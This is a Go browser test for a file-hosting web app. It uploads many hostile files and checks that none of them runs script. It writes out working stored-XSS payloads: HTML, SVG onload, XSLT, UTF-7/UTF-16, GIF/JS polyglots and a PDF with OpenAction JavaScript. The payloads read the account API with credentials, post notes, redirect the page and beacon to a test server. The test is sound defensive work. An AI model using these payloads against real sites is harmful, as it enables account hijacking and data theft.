package httpapi_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"image"
	"image/png"
	"math"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
	"github.com/matryer/is"

	"kist/httpapi/apitest"
	"kist/httpapi/web"
)

// lair is a browser that is signed in at a server, and what uploads try to
// reach from within it.
type lair struct {
	*tab
	mu     sync.Mutex
	called []string // requests to the API with a canary in them, and to elsewhere
	asked  []string // path, Range and status of requests for content
	saved  []string // addresses that became downloads
	beacon *httptest.Server
	bait   map[string]string // pages that the server of the test adds, by path
	apart  bool
}

// openLair starts it, with an origin for content apart if asked for.
func openLair(t *testing.T, apart bool) *lair {
	t.Helper()
	t.Parallel()
	l := &lair{apart: apart, bait: map[string]string{}}
	l.beacon = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/favicon.ico" {
			l.call(r.URL.String())
		}
	}))
	t.Cleanup(l.beacon.Close)
	var site http.Handler
	door := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		site.ServeHTTP(w, r)
	}))
	l.tab = openIn(t, wholeChromium(t), func(c *web.Config) {
		if apart {
			c.Content = "http://content.test:" + door.Listener.Addr().String()[strings.LastIndex(door.Listener.Addr().String(), ":")+1:]
		}
	})
	inner := l.Server.Handler()
	site = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		bait, ok := l.bait[r.URL.Path]
		l.mu.Unlock()
		if ok {
			media, body, _ := strings.Cut(bait, "\n")
			media, policy, _ := strings.Cut(media, "|")
			w.Header().Set("Content-Type", media)
			if policy != "" {
				w.Header().Set("Content-Security-Policy", policy)
			}
			_, _ = w.Write([]byte(body))
			return
		}
		if strings.Contains(r.URL.RawQuery, "canary") {
			l.call(r.Method + " " + r.URL.String())
			r.URL.RawQuery = "" // the API refuses parameters that it does not know
		}
		inner.ServeHTTP(&noted{w, func(status int) {
			if strings.HasPrefix(r.URL.Path, "/x/") {
				l.mu.Lock()
				defer l.mu.Unlock()
				l.asked = append(l.asked, fmt.Sprint(r.URL.Path, " ", r.Header.Get("Range"), " ", status))
			}
		}}, r)
	})
	l.Server.Handle(site)
	door.Start()
	t.Cleanup(door.Close)
	t.Cleanup(l.forgive)
	chromedp.ListenTarget(l.ctx, func(event any) {
		if e, ok := event.(*browser.EventDownloadWillBegin); ok {
			l.mu.Lock()
			defer l.mu.Unlock()
			l.saved = append(l.saved, e.URL)
		}
	})
	l.do(browser.SetDownloadBehavior(browser.SetDownloadBehaviorBehaviorDeny).WithEventsEnabled(true))
	return l
}

// noted notes the status as soon as it is known: a browser may read a film slowly.
type noted struct {
	http.ResponseWriter
	note func(status int)
}

func (n *noted) WriteHeader(status int) {
	n.note(status)
	n.ResponseWriter.WriteHeader(status)
}

func (n *noted) Unwrap() http.ResponseWriter { return n.ResponseWriter }

// lay has the server of the test answer at a path: a media type, a policy after
// a bar if there is one, and a body on the lines below.
func (l *lair) lay(path, bait string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.bait[path] = bait
}

func (l *lair) call(what string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.called = append(l.called, what)
}

// calls returns the addresses called since the last time.
func (l *lair) calls() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	was := l.called
	l.called = nil
	return was
}

// script is what each upload tries: to read the account, to write a note, to
// change the title, and to tell somebody else.
func (l *lair) script(name string) string {
	return fmt.Sprintf(`(function () {
	var at = '%[1]s', tell = '%[2]s/%[3]s';
	try { document.title = 'canary %[3]s'; } catch (e) {}
	try { new Image().src = tell; } catch (e) {}
	try { fetch(at + '/api/v1/me?canary=%[3]s', { credentials: 'include', keepalive: true }); } catch (e) {}
	try { fetch(at + '/api/v1/notes?canary=%[3]s', { method: 'POST', credentials: 'include', keepalive: true, headers: { 'content-type': 'application/json' }, body: '{"title":"canary %[3]s","content":""}' }); } catch (e) {}
	try { navigator.sendBeacon(tell + '/beacon'); } catch (e) {}
	try { top.location = at + '/login?canary=%[3]s'; } catch (e) {}
})();`, l.URL, l.beacon.URL, name)
}

// hostiles are uploads of many types that browsers could run as programs.
func (l *lair) hostiles() map[string]apitest.Part {
	html := func(name string) string {
		return `<!DOCTYPE html><html><head><title>x</title><meta http-equiv="refresh" content="0;url=` + l.URL + `/login?canary=` + name + `"></head><body>` +
			`<script>` + l.script(name) + `</script><img src=x onerror="` + strings.ReplaceAll(l.script(name), `"`, "&quot;") + `">` +
			`<form id=f method=post action="` + l.URL + `/logout?canary=` + name + `"></form><script>f.submit()</script></body></html>`
	}
	cdata := func(name string) string { return "<![CDATA[" + l.script(name) + "]]>" }
	svg := func(name string) string {
		onload := strings.NewReplacer("&", "&amp;", `"`, "&quot;", "<", "&lt;").Replace(l.script(name))
		return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="` + onload + `">` +
			`<title>x</title><rect width="100" height="100"/><script>` + cdata(name) + `</script><image xlink:href="` + l.beacon.URL + `/` + name + `/image"/>` +
			`<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><script>` + cdata(name) + `</script>` +
			`<iframe src="javascript:` + onload + `"></iframe><img src="x" onerror="` + onload + `"/></body></foreignObject></svg>`
	}
	xsl := func(name string) string {
		return `<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><head><title>x</title></head><body><script>` +
			cdata(name) + `</script></body></html></xsl:template></xsl:stylesheet>`
	}
	boundary := "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type=\"text/html\"\r\nSubject: " +
		"x\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x.test/\r\n\r\n"
	return map[string]apitest.Part{
		"html":    apitest.File("page.html", "text/html", html("html")),
		"htm":     apitest.File("page.HTM", "text/html", html("htm")),
		"no-ext":  apitest.File("page", "", html("no-ext")),
		"odd-ext": apitest.File("page.thing", "text/html", html("odd-ext")),
		"as-png":  apitest.File("page.png", "image/png", html("as-png")),
		"as-text": apitest.File("page.txt", "text/plain", html("as-text")),
		// beyond what sniffers look at
		"late": apitest.File("late.txt", "text/html", strings.Repeat("a", 2000)+html("late")),
		"utf-7": apitest.File(
			"page", "text/html; charset=utf-7", "+ADw-script+AD4-"+l.script("utf-7")+"+ADw-/script+AD4-",
		),
		"utf-16":     apitest.File("page.txt", "text/plain", "\xff\xfe"+wide(html("utf-16"))),
		"svg":        apitest.File("a.svg", "image/svg+xml", svg("svg")),
		"svg-as-png": apitest.File("a.png", "image/svg+xml", svg("svg-as-png")),
		"svg-no-ext": apitest.File("a", "image/svg+xml", "<!-- by hand -->\n"+svg("svg-no-ext")),
		"xml": apitest.File(
			"a.xml", "text/xml",
			`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><a>`+xsl("xml")+`</a>`,
		),
		"xml-svg": apitest.File("a.xml", "application/xml", `<?xml version="1.0"?>`+svg("xml-svg")),
		"xslt":    apitest.File("a.xsl", "application/xslt+xml", `<?xml version="1.0"?>`+xsl("xslt")),
		"xhtml": apitest.File(
			"a.xhtml", "application/xhtml+xml",
			`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>`+cdata("xhtml")+`</script></head><body/></html>`,
		),
		"mhtml": apitest.File("a.mhtml", "multipart/related", boundary+html("mhtml")+"\r\n--b--\r\n"),
		"mht":   apitest.File("a.mht", "message/rfc822", boundary+html("mht")+"\r\n--b--\r\n"),
		"mixed": apitest.File(
			"a", "multipart/x-mixed-replace; boundary=b", "--b\r\nContent-Type: text/html\r\n\r\n"+html("mixed")+"\r\n--b--\r\n",
		),
		"gif-html":  apitest.File("a.html", "text/html", "GIF89a\x01\x00\x01\x00\x00\x00\x00;"+html("gif-html")),
		"gif-js":    apitest.File("a.gif", "text/javascript", "GIF89a=1;"+l.script("gif-js")),
		"js":        apitest.File("a.js", "text/javascript", l.script("js")),
		"js-no-ext": apitest.File("a", "application/x-javascript", l.script("js-no-ext")),
		"markdown":  apitest.File("a.md", "text/markdown", html("markdown")),
		"pdf": apitest.File(
			"a.pdf", "application/pdf",
			pdfFile(l.script("pdf")+fmt.Sprintf(
				"app.launchURL('%s/pdf', true); this.submitForm({cURL: '%s/api/v1/notes?canary=pdf', cSubmitAs: 'HTML'});",
				l.beacon.URL, l.URL,
			)),
		),
		"pdf-html": apitest.File("a.html", "text/html", "%PDF-1.4\n"+html("pdf-html")),
		"plain":    apitest.File("a.txt", "text/plain", "javascript:"+l.script("plain")),
	}
}

// wide is ASCII as UTF-16, little end first.
func wide(text string) string {
	var b strings.Builder
	for i := range len(text) {
		b.WriteString(text[i:i+1] + "\x00")
	}
	return b.String()
}

// pdfFile is a document of one page, with a script that runs when it is opened.
func pdfFile(script string) string {
	escaped := strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`).Replace(script)
	var b strings.Builder
	b.WriteString("%PDF-1.4\n")
	var at []int
	for i, object := range []string{
		"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(" + escaped + ")>>>>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<<>>>>",
		"<</Length 21>>stream\n1 0 0 rg 20 20 99 99 re f\nendstream",
	} {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	table := b.Len()
	b.WriteString("xref\n0 5\n0000000000 65535 f \n")
	for _, offset := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&b, "trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", table)
	return b.String()
}

// visits opens an address as a person does, also if it is saved in place of
// being shown, and reports the title of what is shown.
func (l *lair) visits(address string) (title string) {
	l.Helper()
	ctx, cancel := context.WithTimeout(l.ctx, 20*time.Second)
	defer cancel()
	err := chromedp.Run(ctx, chromedp.Navigate(address))
	if err != nil && !strings.Contains(err.Error(), "net::ERR_ABORTED") { // saved
		l.Fatalf("%s: %v", address, err)
	}
	l.do(chromedp.ActionFunc(func(ctx context.Context) error {
		info, err := target.GetTargetInfo().Do(ctx)
		if err == nil {
			title = info.Title
		}
		return err
	}))
	return title
}

// notes is how many notes there are.
func (l *lair) notes() float64 { return l.Get("/api/v1/notes").Want(200).At("total").(float64) }

// TestBrowserHostile: no upload runs a script, at whatever address it is
// opened and whatever embeds it, while its owner is signed in.
func TestBrowserHostile(t *testing.T) {
	t.Parallel()
	for name, apart := range map[string]bool{"one origin": false, "content apart": true} {
		t.Run(name, func(t *testing.T) {
			is := is.New(t)
			l := openLair(t, apart)
			all := l.hostiles()

			// Served by a careless server, they do what they try.
			for name, media := range careless {
				if apart && name != "html" { // the other test has tried them
					continue
				}
				path := "/careless-" + name
				l.lay(path, media+"\n"+all[name].Content)
				if media == "text/javascript" {
					l.lay(path+".js", media+"\n"+all[name].Content)
					l.lay(path, "text/html\n<!DOCTYPE html><script src="+path+".js></script>")
				}
				l.visits(l.URL + path)
				l.eventually(func() bool { return l.notes() > 0 })
				l.do(chromedp.Navigate("about:blank"))
				for l.notes() > 0 {
					l.Delete("/api/v1/notes/" + one(l.App, "notes", "id").(string)).Want(200)
				}
				is.True(len(l.calls()) > 2)
			}

			var frames []string
			for name, f := range all {
				slug := "the-" + name
				l.Upload(map[string]string{"slug": slug, "isPublic": strconv.FormatBool(len(name)%2 == 0)}, f).Want(201)
				var addresses []string
				if opened[name] {
					addresses = []string{"/x/" + slug, "/v/" + slug}
				}
				switch {
				case apart:
					is.True(strings.HasPrefix(l.Get("/x/"+slug).Want(302).Header.Get("Location"), l.Server.Content))
				case name == "svg", name == "html", name == "gif-html":
					addresses = append(addresses, "/x/"+slug+".html", "/"+slug, "/t/"+slug)
				}
				for _, path := range addresses {
					if title := l.visits(l.URL + path); strings.HasPrefix(title, "canary") {
						t.Errorf("%s at %s: the title is %q", name, path, title)
					}
				}
				if calls := l.calls(); len(calls) > 0 {
					t.Errorf("%s: %q", name, calls)
				}
				src := l.URL + "/x/" + slug
				frames = append(frames, fmt.Sprintf(
					`<iframe src="%[1]s"></iframe><object data="%[1]s"></object><script src="%[1]s"></script><script type=module src="%[1]s"></script>`, src))
			}
			// In a page of ours that somebody got markup into.
			for batch := range slices.Chunk(frames, 9) {
				l.lay("/embeds", "text/html|script-src 'self'\n<!DOCTYPE html><title>embeds</title>"+strings.Join(batch, "\n"))
				is.Equal(l.visits(l.URL+"/embeds"), "embeds")
				is.Equal(l.calls(), nil)
			}
			l.do(chromedp.Navigate("about:blank"))
			is.Equal(l.notes(), 0.0)
			is.Equal(l.calls(), nil)
			l.open("/")
			is.Equal(l.js(`fetch('/api/v1/me').then((r) => r.status)`), 200.0) // nor is the owner signed out
		})
	}
}

// careless are the media types by which a browser runs uploads. There are none
// for the others: Chromium saves MHTML and mixed parts that come by HTTP,
// knows no UTF-7, and of the program in the PDF, served as one without any
// policy, no call comes either.
var careless = map[string]string{
	"html": "text/html", "gif-html": "text/html", "utf-16": "text/html", "svg": "image/svg+xml", "xml": "text/xml", "xml-svg": "application/xml",
	"xhtml": "application/xhtml+xml", "js": "text/javascript", "gif-js": "text/javascript",
}

// opened are the uploads that are opened by themselves; all are embedded.
var opened = map[string]bool{
	"html": true, "odd-ext": true, "no-ext": true, "utf-7": true, "svg": true, "svg-as-png": true, "xml": true, "xhtml": true, "pdf": true, "mhtml": true, "gif-html": true,
}

// eventually waits for something to be true.
func (l *lair) eventually(what func() bool) {
	l.Helper()
	end := time.After(patience)
	for !what() {
		select {
		case <-end:
			l.Fatal("never true")
		case <-time.After(10 * time.Millisecond):
		}
	}
}

// forgive forgets what the browser complained of: scripts that it would not run.
func (l *lair) forgive() {
	l.tab.mu.Lock()
	defer l.tab.mu.Unlock()
	l.bad = nil
}

// TestBrowserShows: what is held back so still serves: pictures show, films can
// be sought in, and documents are shown and not saved.
func TestBrowserShows(t *testing.T) {
	t.Parallel()
	for name, apart := range map[string]bool{"one origin": false, "content apart": true} {
		t.Run(name, func(t *testing.T) {
			is := is.New(t)
			l := openLair(t, apart)
			private := map[string]string{"slug": "film", "isPublic": "false"}
			l.Upload(private, apitest.File("film.webm", "video/webm", film(60))).Want(201)
			private["slug"] = "paper"
			l.Upload(private, apitest.File("paper.pdf", "application/pdf", pdfFile(""))).Want(201)
			var b bytes.Buffer
			is.NoErr(png.Encode(&b, image.NewGray(image.Rect(0, 0, 900, 600))))
			private["slug"] = "photo"
			l.Upload(private, apitest.File("photo.png", "image/png", b.String())).Want(201)

			l.visits(l.URL + "/v/film")
			l.until(`document.querySelector('video').readyState > 0`)
			is.Equal(l.js(`Math.round(document.querySelector('video').duration)`), 60.0)
			l.js(`document.querySelector('video').currentTime = 50.5`)
			l.until(`(() => { const v = document.querySelector('video'); return !v.seeking && v.readyState > 1 && Math.abs(v.currentTime - 50.5) < 1; })()`)
			l.mu.Lock()
			asked := slices.Clone(l.asked)
			l.mu.Unlock()
			is.True(slices.ContainsFunc(asked, func(a string) bool { // a part from far on
				var from int
				_, err := fmt.Sscanf(a, "/x/film bytes=%d- 206", &from)
				return err == nil && from > 1<<20
			}))

			l.visits(l.URL + "/v/photo")
			l.until(`document.querySelector('.shown img').naturalWidth === 900`)
			l.open("/files")
			// small, by way of the base
			l.until(`[...document.querySelectorAll('#main .item img')].some((i) => i.naturalWidth === 128)`)

			for _, path := range []string{"/v/paper", "/x/paper"} {
				l.visits(l.URL + path)
				l.eventually(l.red)
			}
			is.Equal(l.downloads(), 0)
			l.visits(l.URL + "/x/paper?download=1")
			l.eventually(func() bool { return l.downloads() == 1 })
		})
	}
}

// downloads is how many addresses became downloads.
func (l *lair) downloads() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.saved)
}

// red reports whether the square of pdfFile is seen, by which the browser's own
// viewer has drawn it.
func (l *lair) red() bool {
	l.Helper()
	var shot []byte
	l.do(chromedp.CaptureScreenshot(&shot))
	picture, err := png.Decode(bytes.NewReader(shot))
	l.NoErr(err)
	n := 0
	for x := 0; x < picture.Bounds().Dx(); x += 8 { // the race detector makes looking at all of them slow
		for y := 0; y < picture.Bounds().Dy(); y += 8 {
			if r, g, b, _ := picture.At(x, y).RGBA(); r > 0xf000 && g < 0x1000 && b < 0x1000 {
				n++
			}
		}
	}
	return n > 1000/(8*8)
}

// film is a WebM video with a frame a second, which is the same one of 1 by 1
// pixel, and room between the frames, so that what lies ahead is not read.
func film(seconds int) string {
	element := func(id uint32, parts ...string) string {
		name := strings.TrimLeft(string(binary.BigEndian.AppendUint32(nil, id)), "\x00")
		body := strings.Join(parts, "")
		return name + string(binary.BigEndian.AppendUint64(nil, 1<<56|uint64(len(body)))) + body
	}
	number := func(n uint64) string { return string(binary.BigEndian.AppendUint64(nil, n)) }
	// VP8, a key frame
	const frame = "\x30\x01\x00\x9d\x01\x2a\x01\x00\x01\x00\x0e\xc0\xfe\x25\xa4\x00\x03\x70\x00\x00\x00\x00"
	head := element(
		0x1a45dfa3, element(0x4286, "\x01"), element(0x42f7, "\x01"), element(0x42f2, "\x04"), element(0x42f3, "\x08"),
		element(0x4282, "webm"), element(0x4287, "\x02"), element(0x4285, "\x02"),
	)
	info := element(
		0x1549a966, element(0x2ad7b1, number(1e6)), element(0x4489, number(math.Float64bits(float64(seconds)*1000))),
		element(0x4d80, "kist"), element(0x5741, "kist"),
	)
	size := element(0xe0, element(0xb0, "\x01"), element(0xba, "\x01"))
	start := info + element(
		0x1654ae6b,
		element(0xae, element(0xd7, "\x01"), element(0x73c5, "\x01"), element(0x83, "\x01"), element(0x86, "V_VP8"), size),
	)
	room := element(0xec, strings.Repeat("\x00", 100<<10))
	cluster := func(i int) string {
		return element(0x1f43b675, element(0xe7, number(uint64(i)*1000)), element(0xa3, "\x81\x00\x00\x80"+frame), room)
	}
	cues := func(from int) string {
		var all []string
		for i := range seconds {
			at := number(uint64(from + i*len(cluster(i))))
			all = append(
				all, element(0xbb, element(0xb3, number(uint64(i)*1000)), element(0xb7, element(0xf7, "\x01"), element(0xf1, at))),
			)
		}
		return element(0x1c53bb6b, all...)
	}
	body := start + cues(len(start)+len(cues(0)))
	for i := range seconds {
		body += cluster(i)
	}
	return head + element(0x18538067, body)
}
